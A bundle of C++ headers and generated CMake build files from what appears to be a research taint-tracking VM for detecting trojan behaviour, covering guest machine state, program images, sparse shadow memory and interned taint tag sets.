/**
 * @file
 * The HVM machine: one guest hardware context (registers, memory,
 * shadow taint state, loaded images) and its interpreter.
 *
 * The machine plays PIN's role in the paper: it exposes
 * instrumentation callbacks at instruction and basic-block
 * granularity (Table 3), performs instruction-level data-flow
 * propagation when taint tracking is enabled (§7.3.1), tags loaded
 * binaries (§7.3.2), and yields to the kernel on `int 0x80` and
 * native library routines.
 */

#ifndef HTH_VM_MACHINE_HH
#define HTH_VM_MACHINE_HH

#include <array>
#include <cstdint>
#include <deque>
#include <memory>
#include <string>
#include <vector>

#include "taint/Shadow.hh"
#include "taint/TagSet.hh"
#include "vm/Image.hh"
#include "vm/Isa.hh"
#include "vm/Memory.hh"

namespace hth::vm
{

class Machine;

/** Instrumentation callbacks, PIN-style. */
class Instrumentor
{
  public:
    virtual ~Instrumentor() = default;

    /** An image was mapped into the address space. */
    virtual void imageLoaded(Machine &m, const LoadedImage &img)
    {
        (void)m; (void)img;
    }

    /** Execution entered a new basic block at @p pc. */
    virtual void basicBlock(Machine &m, uint32_t pc)
    {
        (void)m; (void)pc;
    }

    /** About to execute @p insn at @p pc (pre-execution). */
    virtual void instruction(Machine &m, const Instruction &insn,
                             uint32_t pc)
    {
        (void)m; (void)insn; (void)pc;
    }

    /** A call instruction is transferring to @p target. */
    virtual void routineEnter(Machine &m, uint32_t target)
    {
        (void)m; (void)target;
    }
};

/** Why step() returned. */
enum class StepKind
{
    Ok,         //!< one instruction executed
    Syscall,    //!< int 0x80: kernel must handle, then continue
    Native,     //!< native library routine: kernel must dispatch
    Halted,     //!< Halt executed
    Fault,      //!< bad fetch / invalid operation
};

/** step() outcome. */
struct StepResult
{
    StepKind kind = StepKind::Ok;
    std::string nativeName;             //!< for Native
    const LoadedImage *faultImage = nullptr;
    std::string faultReason;
};

/** Machine execution statistics (performance evaluation §9). */
struct MachineStats
{
    uint64_t instructions = 0;
    uint64_t basicBlocks = 0;
    uint64_t taintOps = 0;
};

/** One guest hardware context. */
class Machine
{
  public:
    /** Conventional layout constants (pre-ASLR Linux flavoured). */
    static constexpr uint32_t APP_BASE = 0x08048000;
    static constexpr uint32_t SO_BASE = 0x40000000;
    static constexpr uint32_t SO_STRIDE = 0x00100000;
    static constexpr uint32_t STACK_TOP = 0xbffff000;
    static constexpr uint32_t HEAP_BASE = 0x10000000;

    explicit Machine(taint::TagStore &tags);

    Machine(Machine &&) = default;
    Machine &operator=(Machine &&) = default;

    /** @name Register file @{ */
    uint32_t reg(Reg r) const { return regs_[(size_t)r]; }
    void setReg(Reg r, uint32_t v) { regs_[(size_t)r] = v; }
    taint::TagSetId regTag(Reg r) const
    {
        return regTags_[(size_t)r];
    }
    void setRegTag(Reg r, taint::TagSetId t)
    {
        regTags_[(size_t)r] = t;
    }
    uint32_t eip() const { return eip_; }
    void setEip(uint32_t pc) { eip_ = pc; bbStart_ = true; }
    /** @} */

    GuestMemory &mem() { return mem_; }
    const GuestMemory &mem() const { return mem_; }
    taint::ShadowMemory &shadow() { return shadow_; }
    taint::TagStore &tagStore() { return *tags_; }

    /** @name Image loading @{ */

    /**
     * Map an image at @p base (or the conventional base when 0),
     * apply relocations, resolve imports against previously loaded
     * images, write the data section into memory and tag it BINARY.
     *
     * @param resource the BINARY resource id assigned by the OS.
     */
    /**
     * The returned reference stays valid across later loadImage
     * calls (images live in a deque).
     */
    const LoadedImage &loadImage(std::shared_ptr<const Image> image,
                                 taint::ResourceId resource,
                                 uint32_t base = 0);

    /** The loaded image whose text contains @p addr, or nullptr. */
    const LoadedImage *findImage(uint32_t addr) const;

    /** The main executable (first non-shared image), or nullptr. */
    const LoadedImage *appImage() const;

    const std::deque<LoadedImage> &images() const { return images_; }

    /** Absolute address of an exported symbol across all images. */
    uint32_t resolveSymbol(const std::string &name) const;

    /** Drop all images and (re)initialise for a fresh executable. */
    void resetForExec();

    /** @} */
    /** @name Execution @{ */

    void setInstrumentor(Instrumentor *ins) { instrumentor_ = ins; }
    void setTaintTracking(bool on) { trackTaint_ = on; }
    bool taintTracking() const { return trackTaint_; }

    /** Execute one instruction (or yield at a kernel boundary). */
    StepResult step();

    bool halted() const { return halted_; }
    void setHalted() { halted_ = true; }

    const MachineStats &stats() const { return stats_; }

    /** @name Execution tracing (diagnostics) @{ */

    /** One retired instruction in the trace ring. */
    struct TraceEntry
    {
        uint32_t pc = 0;
        Instruction insn;
    };

    /** Keep the last @p depth retired instructions (0: off). */
    void setTraceDepth(size_t depth);

    /** The retained trace, oldest first. */
    const std::deque<TraceEntry> &trace() const { return trace_; }

    /** Render the trace with image-relative locations. */
    std::string traceToString() const;

    /** @} */

    /** @} */
    /** @name Guest helpers @{ */

    void push32(uint32_t value, taint::TagSetId tag);
    uint32_t pop32(taint::TagSetId *tag_out = nullptr);

    /** Union of the shadow tags over a NUL-terminated string. */
    taint::TagSetId stringTags(uint32_t addr) const;

    /** Union of the shadow tags over @p len bytes. */
    taint::TagSetId rangeTags(uint32_t addr, uint32_t len) const;

    /** Write bytes and set every byte's tag to @p tag. */
    void writeTagged(uint32_t addr, const void *src, size_t len,
                     taint::TagSetId tag);

    /** @} */

    /** Deep copy (fork support): same TagStore, copied state. */
    Machine cloneForFork() const;

  private:
    Instruction fetch(uint32_t pc, const LoadedImage **img_out,
                      bool *ok);
    void propagate(const Instruction &insn, uint32_t pc,
                   const LoadedImage &img);
    taint::TagSetId binaryTag(const LoadedImage &img);

    taint::TagStore *tags_;
    std::array<uint32_t, NUM_REGS> regs_{};
    std::array<taint::TagSetId, NUM_REGS> regTags_{};
    uint32_t eip_ = 0;
    bool zf_ = false;
    bool sf_ = false;
    bool halted_ = false;
    bool bbStart_ = true;
    bool trackTaint_ = false;

    GuestMemory mem_;
    taint::ShadowMemory shadow_;
    /** Deque: loadImage hands out references that must survive
     * later loads appending to this container. */
    std::deque<LoadedImage> images_;
    uint32_t nextSoBase_ = SO_BASE;

    Instrumentor *instrumentor_ = nullptr;
    MachineStats stats_;

    size_t traceDepth_ = 0;
    std::deque<TraceEntry> trace_;
};

} // namespace hth::vm

#endif // HTH_VM_MACHINE_HH
