/**
 * @file
 * Program images: the HVM analogue of an ELF executable or shared
 * object.
 *
 * An image has a text section (decoded instructions), a data section
 * (raw bytes: the hard-coded strings and constants the HTH policy
 * hunts for), a symbol table, an import table for calls into other
 * images, and a native-routine table for library functions whose
 * bodies are implemented in C++ (the simulated glibc).
 */

#ifndef HTH_VM_IMAGE_HH
#define HTH_VM_IMAGE_HH

#include <cstdint>
#include <map>
#include <memory>
#include <string>
#include <vector>

#include "taint/DataSource.hh"
#include "vm/Isa.hh"

namespace hth::vm
{

/** A symbol reference patched into an instruction's imm at load. */
struct Relocation
{
    uint32_t textIndex;     //!< instruction whose imm gets patched
    std::string symbol;     //!< local symbol (label or data)
};

/**
 * An unloaded program image.
 *
 * Image-relative addresses: text occupies [0, text.size()*INSN_SIZE);
 * data follows immediately at dataOffset().
 */
struct Image
{
    std::string path;                   //!< e.g. "/bin/ls"
    bool sharedObject = false;

    std::vector<Instruction> text;
    std::vector<uint8_t> data;
    uint32_t entry = 0;                 //!< image-relative entry point

    /** Symbol name -> image-relative address (text or data). */
    std::map<std::string, uint32_t> symbols;

    /** Imported symbol names, indexed by CallSym's imm operand. */
    std::vector<std::string> imports;

    /** Native routine names, indexed by Native's imm operand. */
    std::vector<std::string> natives;

    /** Symbol references to patch when the image is mapped. */
    std::vector<Relocation> relocs;

    uint32_t
    dataOffset() const
    {
        return (uint32_t)text.size() * INSN_SIZE;
    }

    /** Zero-initialised (.bss) bytes following the data section.
     * Unlike data, bss is not backed by file bytes, so the loader
     * does not tag it BINARY. */
    uint32_t bssSize = 0;

    uint32_t
    bssOffset() const
    {
        return dataOffset() + (uint32_t)data.size();
    }

    uint32_t
    sizeBytes() const
    {
        return bssOffset() + bssSize;
    }

    /** Image-relative address of @p name; fatal when missing. */
    uint32_t symbol(const std::string &name) const;
};

/** An image mapped into a process address space. */
struct LoadedImage
{
    std::shared_ptr<const Image> image;
    uint32_t base = 0;                  //!< text base address
    taint::ResourceId resource = taint::NO_RESOURCE;

    /** Text with relocations applied for this mapping. */
    std::vector<Instruction> text;

    /** Absolute addresses the image's imports resolved to. */
    std::vector<uint32_t> importAddrs;

    uint32_t textEnd() const
    {
        return base + (uint32_t)image->text.size() * INSN_SIZE;
    }

    uint32_t dataBase() const { return base + image->dataOffset(); }
    uint32_t end() const { return base + image->sizeBytes(); }

    bool
    containsText(uint32_t addr) const
    {
        return addr >= base && addr < textEnd();
    }

    /** Absolute address of a symbol. */
    uint32_t
    symbolAddr(const std::string &name) const
    {
        return base + image->symbol(name);
    }
};

} // namespace hth::vm

#endif // HTH_VM_IMAGE_HH
