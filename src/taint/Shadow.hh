/**
 * @file
 * Shadow state: a TagSetId per guest register and per memory byte.
 *
 * Shadow memory is paged and sparse; pages whose bytes are all
 * untainted are never allocated. fork() clones the whole shadow via
 * the copy constructor (only touched pages are copied).
 */

#ifndef HTH_TAINT_SHADOW_HH
#define HTH_TAINT_SHADOW_HH

#include <array>
#include <cstdint>
#include <memory>
#include <unordered_map>

#include "taint/TagSet.hh"

namespace hth::taint
{

/** Per-byte shadow memory, sparsely paged. */
class ShadowMemory
{
  public:
    static constexpr uint32_t PAGE_BITS = 12;
    static constexpr uint32_t PAGE_SIZE = 1u << PAGE_BITS;

    /** Tag set of the byte at @p addr (EMPTY when untouched). */
    TagSetId
    get(uint32_t addr) const
    {
        auto it = pages_.find(addr >> PAGE_BITS);
        if (it == pages_.end())
            return TagStore::EMPTY;
        return (*it->second)[addr & (PAGE_SIZE - 1)];
    }

    /** Set the tag set of one byte. */
    void
    set(uint32_t addr, TagSetId id)
    {
        if (id == TagStore::EMPTY &&
            pages_.find(addr >> PAGE_BITS) == pages_.end())
            return; // avoid allocating a page just to store "empty"
        page(addr >> PAGE_BITS)[addr & (PAGE_SIZE - 1)] = id;
    }

    /** Set the tag set of a byte range. */
    void
    setRange(uint32_t addr, uint32_t len, TagSetId id)
    {
        for (uint32_t i = 0; i < len; ++i)
            set(addr + i, id);
    }

    /** Union of the tag sets of a byte range. */
    TagSetId
    rangeUnion(TagStore &store, uint32_t addr, uint32_t len) const
    {
        TagSetId acc = TagStore::EMPTY;
        for (uint32_t i = 0; i < len; ++i)
            acc = store.unite(acc, get(addr + i));
        return acc;
    }

    /** Deep copy for fork(). */
    ShadowMemory
    clone() const
    {
        ShadowMemory out;
        for (const auto &[pno, page] : pages_)
            out.pages_.emplace(pno, std::make_unique<Page>(*page));
        return out;
    }

    size_t pageCount() const { return pages_.size(); }

  private:
    using Page = std::array<TagSetId, PAGE_SIZE>;

    Page &
    page(uint32_t pno)
    {
        auto it = pages_.find(pno);
        if (it == pages_.end()) {
            it = pages_.emplace(pno, std::make_unique<Page>()).first;
            it->second->fill(TagStore::EMPTY);
        }
        return *it->second;
    }

    std::unordered_map<uint32_t, std::unique_ptr<Page>> pages_;
};

} // namespace hth::taint

#endif // HTH_TAINT_SHADOW_HH
