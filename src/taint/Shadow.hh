/**
 * @file
 * Shadow state: a TagSetId per guest register and per memory byte.
 *
 * Shadow memory is paged and sparse; pages whose bytes are all
 * untainted are never allocated. fork() clones the whole shadow via
 * clone() (only touched pages are copied).
 *
 * Hot-path layout (§9: data-flow tracking dominates Harrier's cost):
 *  - range operations are page-chunked — one page-table lookup per
 *    touched page, not per byte;
 *  - rangeUnion skips runs of identical tags so the memoised
 *    TagStore union is consulted once per distinct run;
 *  - a one-entry page cache (a micro-TLB) makes repeated accesses
 *    to the same page, the common case inside a guest loop, a
 *    compare instead of a hash lookup. Pages are never deallocated,
 *    so the cached pointer stays valid until the whole shadow is
 *    destroyed or replaced.
 */

#ifndef HTH_TAINT_SHADOW_HH
#define HTH_TAINT_SHADOW_HH

#include <algorithm>
#include <array>
#include <cstdint>
#include <memory>
#include <unordered_map>

#include "taint/TagSet.hh"

namespace hth::taint
{

/**
 * Shadow-memory self-observation. Plain uint64 adds on paths that
 * are already slow (page allocation) or that replace slower work
 * (EMPTY fast paths); harvested into the telemetry registry at end
 * of run.
 */
struct ShadowStats
{
    uint64_t pagesMaterialized = 0; //!< pages allocated on demand
    uint64_t emptyReadSkips = 0;    //!< whole-page skips in rangeUnion
    uint64_t emptyWriteSkips = 0;   //!< EMPTY writes to absent pages
};

/** Per-byte shadow memory, sparsely paged. */
class ShadowMemory
{
  public:
    static constexpr uint32_t PAGE_BITS = 12;
    static constexpr uint32_t PAGE_SIZE = 1u << PAGE_BITS;

    /** Tag set of the byte at @p addr (EMPTY when untouched). */
    TagSetId
    get(uint32_t addr) const
    {
        const Page *p = lookup(addr >> PAGE_BITS);
        if (!p)
            return TagStore::EMPTY;
        return (*p)[addr & (PAGE_SIZE - 1)];
    }

    /** Set the tag set of one byte. */
    void
    set(uint32_t addr, TagSetId id)
    {
        const uint32_t pno = addr >> PAGE_BITS;
        Page *p = lookup(pno);
        if (!p) {
            if (id == TagStore::EMPTY) {
                ++stats_.emptyWriteSkips;
                return; // never allocate a page to store "empty"
            }
            p = &ensure(pno);
        }
        (*p)[addr & (PAGE_SIZE - 1)] = id;
    }

    /** Set the tag set of a byte range (page-chunked). */
    void
    setRange(uint32_t addr, uint32_t len, TagSetId id)
    {
        while (len) {
            const uint32_t off = addr & (PAGE_SIZE - 1);
            const uint32_t chunk =
                std::min(len, PAGE_SIZE - off);
            const uint32_t pno = addr >> PAGE_BITS;
            Page *p = lookup(pno);
            if (!p && id != TagStore::EMPTY)
                p = &ensure(pno);
            if (p)
                std::fill(p->begin() + off,
                          p->begin() + off + chunk, id);
            addr += chunk;
            len -= chunk;
        }
    }

    /**
     * Union of the tag sets of a byte range. Unallocated pages are
     * skipped whole (they are all-EMPTY); within a page, runs of
     * identical tags hit the TagStore once.
     */
    TagSetId
    rangeUnion(TagStore &store, uint32_t addr, uint32_t len) const
    {
        TagSetId acc = TagStore::EMPTY;
        TagSetId last = TagStore::EMPTY;
        while (len) {
            const uint32_t off = addr & (PAGE_SIZE - 1);
            const uint32_t chunk =
                std::min(len, PAGE_SIZE - off);
            const Page *p = lookup(addr >> PAGE_BITS);
            if (p) {
                for (uint32_t i = 0; i < chunk; ++i) {
                    const TagSetId v = (*p)[off + i];
                    if (v == TagStore::EMPTY || v == last)
                        continue;
                    acc = store.unite(acc, v);
                    last = v;
                }
            } else {
                ++stats_.emptyReadSkips;
            }
            addr += chunk;
            len -= chunk;
        }
        return acc;
    }

    /** Deep copy for fork(). */
    ShadowMemory
    clone() const
    {
        ShadowMemory out;
        for (const auto &[pno, page] : pages_)
            out.pages_.emplace(pno, std::make_unique<Page>(*page));
        return out;
    }

    size_t pageCount() const { return pages_.size(); }

    const ShadowStats &stats() const { return stats_; }

    /**
     * Page-materialization epoch: bumps every time a page is
     * allocated and never otherwise. A consumer that proved
     * "no shadow page exists" (the superblock untainted fast path)
     * re-validates the proof with one compare against this.
     */
    uint64_t materializeEpoch() const
    {
        return stats_.pagesMaterialized;
    }

    /** True when no byte anywhere carries a tag (pages are never
     * deallocated, so emptiness is monotone until clone/reset). */
    bool empty() const { return pages_.empty(); }

    /** @name Specialized-path accounting
     * The superblock untainted fast path skips shadow lookups it
     * has proven redundant; these record the stats the skipped
     * generic operations would have counted, so telemetry is
     * identical with specialization on or off. @{ */
    void noteEmptyReadSkips(uint64_t n) const
    {
        stats_.emptyReadSkips += n;
    }
    void noteEmptyWriteSkip() const { ++stats_.emptyWriteSkips; }
    /** @} */

  private:
    using Page = std::array<TagSetId, PAGE_SIZE>;

    static constexpr uint32_t NO_PAGE = 0xffffffffu;

    /** Existing page or nullptr; refreshes the micro-TLB. The
     * negative entry makes repeated misses on one absent page (a
     * hot loop over untainted memory) a compare instead of a hash
     * probe; it is cleared whenever a page materializes. */
    Page *
    lookup(uint32_t pno) const
    {
        if (pno == tlbPno_)
            return tlbPage_;
        if (pno == absentPno_)
            return nullptr;
        auto it = pages_.find(pno);
        if (it == pages_.end()) {
            absentPno_ = pno;
            return nullptr;
        }
        tlbPno_ = pno;
        tlbPage_ = it->second.get();
        return tlbPage_;
    }

    Page &
    ensure(uint32_t pno)
    {
        auto [it, inserted] = pages_.try_emplace(pno);
        if (inserted) {
            it->second = std::make_unique<Page>();
            it->second->fill(TagStore::EMPTY);
            ++stats_.pagesMaterialized;
            absentPno_ = NO_PAGE;
        }
        tlbPno_ = pno;
        tlbPage_ = it->second.get();
        return *tlbPage_;
    }

    std::unordered_map<uint32_t, std::unique_ptr<Page>> pages_;

    /** Mutated from const range reads: observation, not state. */
    mutable ShadowStats stats_;

    /** One-entry page cache. Pages live until the map dies, so the
     * raw pointer cannot dangle while this object is usable. */
    mutable uint32_t tlbPno_ = NO_PAGE;
    mutable Page *tlbPage_ = nullptr;

    /** One-entry negative cache: last page number known absent. */
    mutable uint32_t absentPno_ = NO_PAGE;
};

} // namespace hth::taint

#endif // HTH_TAINT_SHADOW_HH
