#include "taint/TagSet.hh"

#include <algorithm>

namespace hth::taint
{

TagStore::TagStore()
{
    sets_.emplace_back(); // id 0: empty set
    ids_.emplace(std::vector<Tag>{}, EMPTY);
}

TagSetId
TagStore::single(Tag tag)
{
    return intern({tag});
}

TagSetId
TagStore::intern(std::vector<Tag> tags)
{
    std::sort(tags.begin(), tags.end());
    tags.erase(std::unique(tags.begin(), tags.end()), tags.end());
    auto it = ids_.find(tags);
    if (it != ids_.end())
        return it->second;
    TagSetId id = (TagSetId)sets_.size();
    sets_.push_back(tags);
    ids_.emplace(std::move(tags), id);
    ++stats_.setsInterned;
    return id;
}

TagSetId
TagStore::unite(TagSetId a, TagSetId b)
{
    if (a == b || b == EMPTY)
        return a;
    if (a == EMPTY)
        return b;
    ++stats_.unionCalls;
    // Order the pair so (a,b) and (b,a) share a cache slot.
    if (a > b)
        std::swap(a, b);
    uint64_t key = ((uint64_t)a << 32) | b;
    auto it = unionCache_.find(key);
    if (it != unionCache_.end()) {
        ++stats_.unionCacheHits;
        return it->second;
    }
    std::vector<Tag> merged;
    const auto &sa = sets_[a];
    const auto &sb = sets_[b];
    merged.reserve(sa.size() + sb.size());
    std::set_union(sa.begin(), sa.end(), sb.begin(), sb.end(),
                   std::back_inserter(merged));
    TagSetId id = intern(std::move(merged));
    unionCache_.emplace(key, id);
    return id;
}

const std::vector<Tag> &
TagStore::tags(TagSetId id) const
{
    panicIf(id >= sets_.size(), "bad tag set id ", id);
    return sets_[id];
}

bool
TagStore::containsType(TagSetId id, SourceType type) const
{
    for (const Tag &t : tags(id))
        if (t.type == type)
            return true;
    return false;
}

bool
TagStore::contains(TagSetId id, Tag tag) const
{
    const auto &set = tags(id);
    return std::binary_search(set.begin(), set.end(), tag);
}

const char *
sourceTypeName(SourceType type)
{
    switch (type) {
      case SourceType::UserInput: return "USER_INPUT";
      case SourceType::File: return "FILE";
      case SourceType::Socket: return "SOCKET";
      case SourceType::Binary: return "BINARY";
      case SourceType::Hardware: return "HARDWARE";
      case SourceType::Unknown: return "UNKNOWN";
    }
    return "?";
}

} // namespace hth::taint
