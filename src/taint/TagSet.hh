/**
 * @file
 * Interned taint tag sets with memoised unions.
 *
 * A TagSetId names an immutable, canonical (sorted, deduplicated) set
 * of tags. Id 0 is the empty set. Because instruction-level data-flow
 * tracking unions the same handful of sets millions of times,
 * pairwise unions are memoised; the memo table hit rate is one of the
 * statistics the performance evaluation (§9) reports.
 */

#ifndef HTH_TAINT_TAGSET_HH
#define HTH_TAINT_TAGSET_HH

#include <cstdint>
#include <map>
#include <unordered_map>
#include <vector>

#include "taint/DataSource.hh"

namespace hth::taint
{

/** Canonical identifier of an interned tag set; 0 is empty. */
using TagSetId = uint32_t;

/** Statistics about tag-set interning, for the §9 evaluation. */
struct TagStoreStats
{
    uint64_t unionCalls = 0;
    uint64_t unionCacheHits = 0;
    uint64_t setsInterned = 0;
};

/** Interns tag sets and computes memoised unions. */
class TagStore
{
  public:
    TagStore();

    /** The empty set. */
    static constexpr TagSetId EMPTY = 0;

    /** Intern the singleton set {tag}. */
    TagSetId single(Tag tag);

    /** Intern an arbitrary set (copied, canonicalised). */
    TagSetId intern(std::vector<Tag> tags);

    /** Union of two interned sets (memoised). */
    TagSetId unite(TagSetId a, TagSetId b);

    /** The tags in a set, sorted. */
    const std::vector<Tag> &tags(TagSetId id) const;

    /** True when @p id contains a tag of the given type. */
    bool containsType(TagSetId id, SourceType type) const;

    /** True when @p id contains exactly @p tag. */
    bool contains(TagSetId id, Tag tag) const;

    bool empty(TagSetId id) const { return id == EMPTY; }

    size_t size() const { return sets_.size(); }
    const TagStoreStats &stats() const { return stats_; }

  private:
    std::vector<std::vector<Tag>> sets_;
    std::map<std::vector<Tag>, TagSetId> ids_;
    std::unordered_map<uint64_t, TagSetId> unionCache_;
    TagStoreStats stats_;
};

} // namespace hth::taint

#endif // HTH_TAINT_TAGSET_HH
