/**
 * @file
 * The HTH data-source model (paper §5.1).
 *
 * Every byte of guest state carries a *set* of tags; each tag names a
 * data source: one of the five source types together with the concrete
 * resource (file, socket, binary image, ...) the data came from. HTH
 * deliberately keeps more than a single taint bit so the policy can
 * distinguish "came from a hard-coded string in the binary" from
 * "typed by the user" from "arrived over a socket".
 */

#ifndef HTH_TAINT_DATASOURCE_HH
#define HTH_TAINT_DATASOURCE_HH

#include <compare>
#include <cstdint>
#include <string>
#include <vector>

#include "support/Logging.hh"

namespace hth::taint
{

/** The five data-source types of §5.1 (plus UNKNOWN, footnote 4). */
enum class SourceType : uint8_t
{
    UserInput,
    File,
    Socket,
    Binary,
    Hardware,
    Unknown,
};

/** Policy-facing name, e.g. "USER_INPUT". */
const char *sourceTypeName(SourceType type);

/** Identifies a concrete resource in the ResourceTable. */
using ResourceId = uint32_t;

/** No-resource marker for sources without an ID (user input, hw). */
constexpr ResourceId NO_RESOURCE = 0xffffffff;

/** One taint tag: a source type plus the concrete resource. */
struct Tag
{
    SourceType type = SourceType::Unknown;
    ResourceId res = NO_RESOURCE;

    auto operator<=>(const Tag &) const = default;
};

/**
 * A concrete resource: its type, its name (the resource ID in the
 * paper's terminology) and the data source of the *name itself* (the
 * resource ID (origin) data source of Table 2 — did the name come
 * from the binary, the user, a file or a socket?).
 */
struct Resource
{
    SourceType type = SourceType::Unknown;
    std::string name;
    uint32_t nameOrigin = 0;    //!< TagSetId of the name's provenance

    /**
     * For sockets accepted from a listener: the listening (server)
     * socket's resource. Policy reasoning about accepted
     * connections uses the server's address provenance (the pma
     * warnings of §8.3.6).
     */
    ResourceId server = 0xffffffff;
};

/** Registry of every resource the monitored program touched. */
class ResourceTable
{
  public:
    ResourceTable()
    {
        // Reserve id 0 as an explicit unknown resource.
        resources_.push_back({SourceType::Unknown, "<unknown>", 0});
    }

    ResourceId
    add(SourceType type, std::string name, uint32_t name_origin,
        ResourceId server = NO_RESOURCE)
    {
        resources_.push_back(
            {type, std::move(name), name_origin, server});
        return (ResourceId)(resources_.size() - 1);
    }

    const Resource &
    get(ResourceId id) const
    {
        panicIf(id >= resources_.size(), "bad resource id ", id);
        return resources_[id];
    }

    size_t size() const { return resources_.size(); }

  private:
    std::vector<Resource> resources_;
};

} // namespace hth::taint

#endif // HTH_TAINT_DATASOURCE_HH
