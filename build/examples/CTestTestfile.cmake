# CMake generated Testfile for 
# Source directory: /root/repo/examples
# Build directory: /root/repo/build/examples
# 
# This file includes the relevant testing commands required for 
# testing this directory and lists subdirectories to be tested as well.
add_test(example_quickstart "/root/repo/build/examples/quickstart")
set_tests_properties(example_quickstart PROPERTIES  _BACKTRACE_TRIPLES "/root/repo/examples/CMakeLists.txt;6;add_test;/root/repo/examples/CMakeLists.txt;9;hth_add_example;/root/repo/examples/CMakeLists.txt;0;")
add_test(example_backdoor_hunt "/root/repo/build/examples/backdoor_hunt")
set_tests_properties(example_backdoor_hunt PROPERTIES  _BACKTRACE_TRIPLES "/root/repo/examples/CMakeLists.txt;6;add_test;/root/repo/examples/CMakeLists.txt;10;hth_add_example;/root/repo/examples/CMakeLists.txt;0;")
add_test(example_custom_policy "/root/repo/build/examples/custom_policy")
set_tests_properties(example_custom_policy PROPERTIES  _BACKTRACE_TRIPLES "/root/repo/examples/CMakeLists.txt;6;add_test;/root/repo/examples/CMakeLists.txt;11;hth_add_example;/root/repo/examples/CMakeLists.txt;0;")
add_test(example_secure_binary "/root/repo/build/examples/secure_binary")
set_tests_properties(example_secure_binary PROPERTIES  _BACKTRACE_TRIPLES "/root/repo/examples/CMakeLists.txt;6;add_test;/root/repo/examples/CMakeLists.txt;12;hth_add_example;/root/repo/examples/CMakeLists.txt;0;")
add_test(example_cross_session "/root/repo/build/examples/cross_session")
set_tests_properties(example_cross_session PROPERTIES  _BACKTRACE_TRIPLES "/root/repo/examples/CMakeLists.txt;6;add_test;/root/repo/examples/CMakeLists.txt;13;hth_add_example;/root/repo/examples/CMakeLists.txt;0;")
add_test(example_textasm_demo "/root/repo/build/examples/textasm_demo")
set_tests_properties(example_textasm_demo PROPERTIES  _BACKTRACE_TRIPLES "/root/repo/examples/CMakeLists.txt;6;add_test;/root/repo/examples/CMakeLists.txt;14;hth_add_example;/root/repo/examples/CMakeLists.txt;0;")
add_test(example_clips_repl "sh" "-c" "printf '(+ 20 22)\\n:quit\\n' | /root/repo/build/examples/clips_repl | grep -q '=> 42'")
set_tests_properties(example_clips_repl PROPERTIES  _BACKTRACE_TRIPLES "/root/repo/examples/CMakeLists.txt;19;add_test;/root/repo/examples/CMakeLists.txt;0;")
