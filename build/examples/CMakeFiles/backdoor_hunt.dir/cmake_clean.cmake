file(REMOVE_RECURSE
  "CMakeFiles/backdoor_hunt.dir/backdoor_hunt.cpp.o"
  "CMakeFiles/backdoor_hunt.dir/backdoor_hunt.cpp.o.d"
  "backdoor_hunt"
  "backdoor_hunt.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/backdoor_hunt.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
