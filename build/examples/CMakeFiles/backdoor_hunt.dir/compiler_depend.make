# Empty compiler generated dependencies file for backdoor_hunt.
# This may be replaced when dependencies are built.
