# Empty compiler generated dependencies file for cross_session.
# This may be replaced when dependencies are built.
