
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/examples/cross_session.cpp" "examples/CMakeFiles/cross_session.dir/cross_session.cpp.o" "gcc" "examples/CMakeFiles/cross_session.dir/cross_session.cpp.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/workloads/CMakeFiles/hth_workloads.dir/DependInfo.cmake"
  "/root/repo/build/src/core/CMakeFiles/hth_core.dir/DependInfo.cmake"
  "/root/repo/build/src/secpert/CMakeFiles/hth_secpert.dir/DependInfo.cmake"
  "/root/repo/build/src/harrier/CMakeFiles/hth_harrier.dir/DependInfo.cmake"
  "/root/repo/build/src/os/CMakeFiles/hth_os.dir/DependInfo.cmake"
  "/root/repo/build/src/vm/CMakeFiles/hth_vm.dir/DependInfo.cmake"
  "/root/repo/build/src/clips/CMakeFiles/hth_clips.dir/DependInfo.cmake"
  "/root/repo/build/src/taint/CMakeFiles/hth_taint.dir/DependInfo.cmake"
  "/root/repo/build/src/support/CMakeFiles/hth_support.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
