file(REMOVE_RECURSE
  "CMakeFiles/cross_session.dir/cross_session.cpp.o"
  "CMakeFiles/cross_session.dir/cross_session.cpp.o.d"
  "cross_session"
  "cross_session.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/cross_session.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
