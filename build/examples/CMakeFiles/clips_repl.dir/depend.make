# Empty dependencies file for clips_repl.
# This may be replaced when dependencies are built.
