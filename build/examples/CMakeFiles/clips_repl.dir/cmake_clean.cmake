file(REMOVE_RECURSE
  "CMakeFiles/clips_repl.dir/clips_repl.cpp.o"
  "CMakeFiles/clips_repl.dir/clips_repl.cpp.o.d"
  "clips_repl"
  "clips_repl.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/clips_repl.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
