# Empty dependencies file for secure_binary.
# This may be replaced when dependencies are built.
