file(REMOVE_RECURSE
  "CMakeFiles/secure_binary.dir/secure_binary.cpp.o"
  "CMakeFiles/secure_binary.dir/secure_binary.cpp.o.d"
  "secure_binary"
  "secure_binary.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/secure_binary.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
