file(REMOVE_RECURSE
  "CMakeFiles/textasm_demo.dir/textasm_demo.cpp.o"
  "CMakeFiles/textasm_demo.dir/textasm_demo.cpp.o.d"
  "textasm_demo"
  "textasm_demo.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/textasm_demo.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
