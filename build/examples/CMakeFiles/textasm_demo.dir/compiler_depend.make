# Empty compiler generated dependencies file for textasm_demo.
# This may be replaced when dependencies are built.
