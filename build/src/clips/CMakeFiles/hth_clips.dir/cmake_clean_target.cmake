file(REMOVE_RECURSE
  "libhth_clips.a"
)
