file(REMOVE_RECURSE
  "CMakeFiles/hth_clips.dir/Builtins.cc.o"
  "CMakeFiles/hth_clips.dir/Builtins.cc.o.d"
